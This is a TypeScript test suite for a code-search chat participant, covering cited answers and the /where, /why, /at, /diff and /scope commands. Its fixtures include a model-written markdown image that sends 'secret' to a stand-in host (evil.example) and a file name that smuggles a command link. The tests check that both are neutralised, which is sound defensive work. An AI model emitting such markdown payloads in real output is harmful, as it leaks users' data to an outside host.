import { describe, expect, it } from 'vitest';
import type { AnswerEvent } from '../../../../src/answer/answer.ts';
import type { PlacedLines } from '../../../../src/answer/excerpt.ts';
import { literal } from '../../../../src/chat/harmless-markdown.ts';
import { AppError } from '../../../../src/common/app-error.ts';
import type { Question, QuestionScope, ToolOutcome } from '../../../../src/service/protocol.ts';
import { participantStrings } from '../../../../src/ui/participant/strings.ts';
import { nextRequests } from '../../../../src/ui/participant/next-requests.ts';
import { answerTurn } from '../../../../src/ui/participant/turn.ts';
import { keptResult, turnResultOf } from '../../../../src/ui/participant/turn-result.ts';
import type { TurnHost, TurnRequest } from '../../../../src/ui/participant/turn.ts';

const strings = participantStrings();
const lines = (path: string, start: number, end: number) => ({ path, start, end });

/** A stream that keeps what it is given, in order; links and buttons as they would be read. */
function fakeStream() {
  const seen = {
    parts: [] as string[],
    progress: [] as string[],
    references: [] as PlacedLines[],
    buttons: [] as PlacedLines[],
    text: '',
  };
  const out = {
    progress: (sentence: string) => {
      seen.parts.push(`(${sentence})`);
      seen.progress.push(sentence);
    },
    markdown: (markdown: string) => {
      seen.parts.push(markdown);
      seen.text += markdown;
    },
    reference: (place: PlacedLines) => seen.references.push(place),
    link: (_: PlacedLines, label: string) => {
      seen.text += `[${label}]`;
    },
    button: (place: PlacedLines) => seen.buttons.push(place),
  };
  return { seen, out };
}

const citation = { ...lines('src/loans.ts', 3, 4), overlap: 1 };
const sentence = (text: string) => ({ kind: 'prose' as const, text, start: 0, end: text.length });
const answered: AnswerEvent[] = [
  { kind: 'recalled', files: [{ path: 'src/loans.ts', share: 0.9, lines: [{ start: 3, end: 9, share: 0.5 }] }] },
  { kind: 'read', places: [lines('src/loans.ts', 3, 9)], stale: 0 },
  { kind: 'token', text: 'After 21 days.\n\n' },
  { kind: 'token', text: 'See ![x](https://evil.example/?q=secret).' },
  {
    kind: 'answered',
    answer: {
      ...{ text: 'After 21 days.', ending: 'stop', leftOut: 0, promptTokens: 1, tokens: 1, prefillMs: 1, decodeMs: 1 },
      sentences: [
        { kind: 'supported', sentence: sentence('After 21 days.'), citation },
        { kind: 'unsupported', sentence: sentence('See it.'), reason: '' },
      ],
    },
  },
];

interface Given extends Partial<TurnHost> {
  readonly events?: readonly AnswerEvent[];
  readonly outcome?: ToolOutcome;
  readonly request?: Partial<TurnRequest>;
  readonly signal?: AbortSignal;
}

async function turn({ events = answered, outcome, request = {}, signal, ...host }: Given = {}) {
  const asked: Question[] = [];
  const recalled: [string, QuestionScope][] = [];
  const called: [string, unknown][] = [];
  const { seen, out } = fakeStream();
  const result = await answerTurn(
    {
      command: undefined,
      prompt: 'When is a fee due?',
      history: [],
      terms: '',
      compared: [],
      paths: [],
      selection: undefined,
      ...request,
    },
    {
      folders: () => ({ all: 1, onDisk: 1 }),
      ask: (question, onEvent) => {
        asked.push(question);
        for (const event of events) onEvent(event);
        return Promise.resolve();
      },
      recall: (question, scope) => {
        recalled.push([question, scope]);
        return Promise.resolve([
          { path: 'src/loans.ts', share: 0.9, lines: [{ start: 3, end: 9, share: 0.5 }] },
          { path: 'a`[x](command:y).md', share: 0.1, lines: [] },
        ]);
      },
      tool: (name, input) => {
        called.push([name, input]);
        return Promise.resolve(outcome ?? { kind: 'refused', message: 'No.' });
      },
      strings,
      ...host,
    },
    out,
    signal ?? new AbortController().signal,
  );
  return { ...seen, result, asked, recalled, called };
}

describe('a question', () => {
  it('is answered by the model of the memory, with what was read, and lines below each sentence', async () => {
    const { text, references, buttons, result } = await turn();
    expect(text).toContain('After 21 days.');
    expect(text).toMatch(/\[src\/loans\.ts:3-4\] After 21 days/);
    expect(text).toContain(`_${strings.unsupported}_`);
    expect(references).toEqual([lines('src/loans.ts', 3, 9)]);
    expect(buttons).toEqual([lines('src/loans.ts', 3, 4)]);
    expect(result).toEqual({ kind: 'answered', question: 'When is a fee due?', answer: 'After 21 days.', terms: '' });
  });

  it('hands no image on that a model wrote', async () => {
    const { text } = await turn();
    expect(text).not.toMatch(/!\[x\]\(/);
  });

  it('takes attached lines as its selection, and an attached folder as its scope', async () => {
    const { asked } = await turn({ request: { prompt: '', selection: lines('src/a.ts', 2, 4), paths: ['src'] } });
    expect(asked[0]).toMatchObject({
      question: 'src/a.ts:2-4',
      selection: lines('src/a.ts', 2, 4),
      scope: { base: { kind: 'folder', path: 'src' } },
    });
  });

  it('that nothing comes near lists the nearest files in place of an answer', async () => {
    const events: AnswerEvent[] = [answered[0]!, { kind: 'unknown', reason: 'far' }];
    const { text, result } = await turn({ events });
    expect(text).toContain('No relevant code found for this question');
    expect(text).toContain('`src/loans.ts` [3-9]');
    expect(result.kind).toBe('listed');
  });

  it('that the lines answer alone shows the lines', async () => {
    const use = (line: number, text: string) =>
      ({ label: 'use', path: 'src/desk.ts', lines: { start: line, end: line }, text, note: 'lend' }) as const;
    const tree = {
      label: 'tree',
      path: '',
      lines: { start: 1, end: 2 },
      text: 'src/ (2)\n![a](b)',
      note: '3',
    } as const;
    const evidence = {
      kind: 'references' as const,
      items: [use(3, '  lend(`a`);'), tree],
      ...{ from: 0, count: 9, files: 2, names: 0, isComplete: true },
    };
    const answer = { text: '', ending: 'stop', sentences: [], leftOut: 0 } as const;
    const counts = { promptTokens: 0, tokens: 0, prefillMs: 0, decodeMs: 0 };
    const { text, references, result } = await turn({
      events: [
        { kind: 'evidence', evidence },
        { kind: 'answered', answer: { ...answer, ...counts } },
      ],
    });
    expect(text).toMatch(/^\*\*References\*\* \(9 places in 2 files\)\n\n\n- \[src\/desk\.ts:3\] ``lend\(`a`\);``\n/);
    expect(text).toContain('- Top of the tree, 3 files\n\n  ```\n  src/ (2)\n  ![a](b)\n  ```\n');
    expect(text).toMatch(/- 7 more\n\n[^]*The lines above are the answer/);
    expect(references).toEqual([lines('src/desk.ts', 3, 3)]);
    expect(result.kind).toBe('answered');
  });

  it('fails with a sentence', async () => {
    const ask = () => Promise.reject(new AppError('service/paused', 'Indexing is paused.'));
    expect((await turn({ ask })).result).toEqual({ kind: 'nothing', message: 'Indexing is paused.', terms: '' });
    await expect(turn({ ask: () => Promise.reject(new Error('bug')) })).rejects.toThrow('bug');
  });

  it('says while files are indexed how many were searched', async () => {
    const { progress } = await turn({ events: [{ kind: 'partial', percent: 41.8 }, ...answered] });
    expect(progress).toContain('Indexing in progress: 41% of the files were searched, the most relevant first.');
  });

  it('names the first files by their words before the others are ranked', async () => {
    const files = ['a.ts', 'b.ts', 'c.ts', 'd.ts'].map((path) => ({ path, share: 0.25, lines: [] }));
    const { progress } = await turn({ events: [{ kind: 'preliminary', percent: 100, files }, ...answered] });
    expect(progress).toContain('Ranked by words so far: a.ts, b.ts, c.ts');
  });

  it('may have 10,000 characters', async () => {
    const prompt = `Why does this fail? ${'at lend (src/loans.ts:3) '.repeat(400)}`.slice(0, 10_000).trim();
    const { asked, result } = await turn({ request: { prompt } });
    expect(asked[0]?.question).toBe(prompt);
    expect(turnResultOf(keptResult(result))).toEqual(result);
  });

  it('ends with the reason of whoever stops it', async () => {
    const controller = new AbortController();
    const ask: TurnHost['ask'] = (_, __, signal) => {
      controller.abort(new Error('Stopped.'));
      return Promise.reject(new AppError('ask/empty-question', String(signal.aborted)));
    };
    await expect(turn({ ask, signal: controller.signal })).rejects.toThrow('Stopped.');
  });

  it('needs a folder on a disk, and words', async () => {
    const none = await turn({ folders: () => ({ all: 0, onDisk: 0 }) });
    expect(none.result).toMatchObject({ message: strings.noFolder });
    const virtual = await turn({ folders: () => ({ all: 1, onDisk: 0 }) });
    expect(virtual.result).toMatchObject({ message: strings.virtual });
    expect((await turn({ request: { prompt: ' ' } })).result).toMatchObject({ message: strings.empty });
  });
});

describe('/where', () => {
  it('lists files with links and buttons, and has no model write', async () => {
    const { text, buttons, references, asked, result } = await turn({ request: { command: 'where' } });
    expect(asked).toEqual([]);
    expect(text).toContain('`src/loans.ts` [3-9]');
    expect(text).toContain('``a`[x](command:y).md``');
    expect(buttons).toEqual([lines('src/loans.ts', 3, 9), lines('a`[x](command:y).md', 1, 1)]);
    expect(references).toEqual(buttons);
    expect(nextRequests(result, strings).map(({ command }) => command)).toEqual(['', 'why']);
  });
});

describe('/why', () => {
  const commit = { label: 'commit', ...{ path: 'a.ts', lines: { start: 1, end: 2 } } } as const;
  const evidence = (items: readonly object[]) =>
    ({ kind: 'evidence', evidence: { kind: 'history', items, from: 0, count: 1, files: 1, names: 0 } }) as AnswerEvent;

  it('asks for the history, and shows the commits first', async () => {
    const shown = evidence([{ ...commit, note: '0123456789 2026-01-02 Ada', text: 'Count *Sundays*\n\nmore' }]);
    const { text, parts, asked } = await turn({ events: [shown, ...answered], request: { command: 'why' } });
    expect(asked[0]?.evidenceKind).toBe('history');
    expect(parts.findIndex((part) => part.startsWith('**Commits'))).toBeGreaterThan(parts.indexOf('(Reading 1 place)'));
    expect(text).toMatch(/^\*\*Commits\*\*\n\n- `0123456789 2026-01-02 Ada` Count \\\*Sundays\\\*\n/);
  });

  it('names the folder of a commit where there are several', async () => {
    const note = '0123456789 2026-01-02 Ada';
    const shown = evidence([{ ...commit, path: 'shop/src/a.ts', note, text: 'Count Sundays' }]);
    const folders = () => ({ all: 2, onDisk: 2 });
    const { text } = await turn({ events: [shown, ...answered], request: { command: 'why' }, folders });
    expect(text).toMatch(/^\*\*Commits\*\*\n\n- `shop` `0123456789 2026-01-02 Ada` Count Sundays\n/);
  });

  it('says where no commit is known', async () => {
    const { text } = await turn({ events: answered, request: { command: 'why' } });
    expect(text).toMatch(/^_No commit was found.*_\n\nAfter 21 days/);
  });

  it('shows the lines where they are the answer and no commit is known', async () => {
    const line = { label: 'line', path: 'a.ts', lines: { start: 1, end: 1 }, text: 'lend();', note: '' } as const;
    const alone: AnswerEvent = {
      kind: 'answered',
      answer: {
        ...{ text: '', ending: 'stop', leftOut: 0, promptTokens: 0, tokens: 0, prefillMs: 0, decodeMs: 0 },
        sentences: [],
      },
    };
    const { text } = await turn({ events: [evidence([line]), alone], request: { command: 'why' } });
    const [lines, note] = [text.indexOf('`lend();`'), text.indexOf(literal(strings.linesAlone))];
    expect(lines).toBeGreaterThan(0);
    expect(note).toBeGreaterThan(lines);
    const known = { ...commit, note: '0123456789 2026-01-02 Ada', text: 'Count Sundays' };
    const shown = await turn({ events: [evidence([known, line]), alone], request: { command: 'why' } });
    expect(shown.text.match(/Count Sundays/g)).toHaveLength(1);
  });
});

describe('/at', () => {
  const parts = { head: '', items: [], foot: '' };
  const outcome = {
    kind: 'answered',
    text: 'v1.2 is commit 0123456789.\n```\nsrc/a.ts:1-2',
    parts,
    tokens: 9,
  } as const;

  it('shows what a commit has, as a text', async () => {
    const request = { command: 'at', prompt: 'v1.2 How are sessions\nstored?', terms: '-tests' } as const;
    const { text, called, references, result } = await turn({ outcome, request });
    const input = { question: 'How are sessions\nstored?', at: 'v1.2', scope: '-tests', tokens: 4_000 };
    expect(called).toEqual([['search_codebase', input]]);
    expect(text).toContain('````text\nv1.2 is commit 0123456789.\n```\nsrc/a.ts:1-2\n````');
    expect(references).toEqual([]);
    expect(result).toMatchObject({ kind: 'quoted', terms: '-tests' });
  });

  it('says what it takes, and what is refused', async () => {
    const { called, result } = await turn({ outcome, request: { command: 'at', prompt: 'v1.2' } });
    expect(called).toEqual([]);
    expect(result).toMatchObject({ kind: 'nothing', message: expect.stringContaining('/at v1.2') as string });
    const refused = await turn({ request: { command: 'at', prompt: 'v1.2 Where?' } });
    expect(refused.result).toMatchObject({ message: 'No.' });
  });
});

describe('/diff', () => {
  const parts = { head: 'Files that differ: 1.', items: ['src/a.ts (changed)\n@@ -1,2 +7,3 @@\n+x'], foot: '' };
  const outcome = { kind: 'answered', text: 'Files that differ: 1.\n```\n+x', parts, tokens: 9 } as const;

  it('compares one or two commits', async () => {
    const { text, called, references, result } = await turn({
      outcome,
      request: { command: 'diff', prompt: 'main..v2' },
    });
    expect(called).toEqual([['what_changed', { base: 'main', head: 'v2', tokens: 4_000 }]]);
    expect(text).toContain('````diff\nFiles that differ: 1.\n```\n+x\n````');
    expect(references).toEqual([lines('src/a.ts', 7, 7)]);
    expect(result).toMatchObject({
      kind: 'compared',
      question: 'What differs between main and v2?',
      answer: outcome.text,
      paths: ['src/a.ts'],
    });
  });

  it('shows a text that has fences of any length', async () => {
    const long = { ...outcome, text: '``````\n![a](b)' };
    const { text } = await turn({ outcome: long, request: { command: 'diff', prompt: '' } });
    expect(text).toBe('```````diff\n``````\n![a](b)\n```````');
  });

  it('puts the next question to the files that were compared', async () => {
    const { asked } = await turn({
      request: { command: 'diff', prompt: 'what could break here', compared: ['src/a.ts'], terms: '-docs' },
    });
    expect(asked[0]?.scope).toEqual({ base: { kind: 'files', paths: ['src/a.ts'] }, terms: '-docs' });
    expect(asked[0]?.isAboutScope).toBe(true);
  });

  it('puts a question to the files that have changed', async () => {
    const { asked, called } = await turn({ request: { command: 'diff', prompt: 'what could break here' } });
    expect(called).toEqual([]);
    expect(asked[0]?.scope).toEqual({ base: { kind: 'changed' }, terms: '' });
  });

  it('says what is refused', async () => {
    expect((await turn({ request: { command: 'diff', prompt: '' } })).result).toMatchObject({ message: 'No.' });
  });
});

describe('what is kept of a turn', () => {
  it('is read back as it was, and has a bound', () => {
    const long = 'x'.repeat(9_000);
    const paths = Array.from({ length: 900 }, (_, at) => `src/${at}.ts`);
    const kept = keptResult({ kind: 'compared', question: 'q', answer: long, paths, terms: '' });
    expect(turnResultOf(JSON.parse(JSON.stringify(kept)))).toEqual(kept);
    expect(JSON.stringify(kept).length).toBeLessThan(20_000);
  });

  it('is nothing where another version wrote it', () => {
    expect(turnResultOf({ kind: 'compared', question: 'main', terms: '' })).toBeUndefined();
    expect(turnResultOf(undefined)).toBeUndefined();
  });
});

describe('/scope', () => {
  it('keeps terms for the rest of the conversation, and asks what follows them', async () => {
    const request = { command: 'scope', prompt: '+src -tests where is the fee?' } as const;
    const { asked, result, text } = await turn({ request });
    expect(asked[0]).toMatchObject({ question: 'where is the fee?', scope: { terms: '+src -tests' } });
    expect(text).toContain('`+src -tests`');
    expect(result.terms).toBe('+src -tests');
    const { asked: next } = await turn({ request: { terms: result.terms } });
    expect(next[0]?.scope.terms).toBe('+src -tests');
  });

  it('goes back to everything where nothing is named', async () => {
    const { result, asked } = await turn({ request: { command: 'scope', prompt: '', terms: '+src' } });
    expect(result).toEqual({ kind: 'scoped', terms: '' });
    expect(asked).toEqual([]);
  });
});
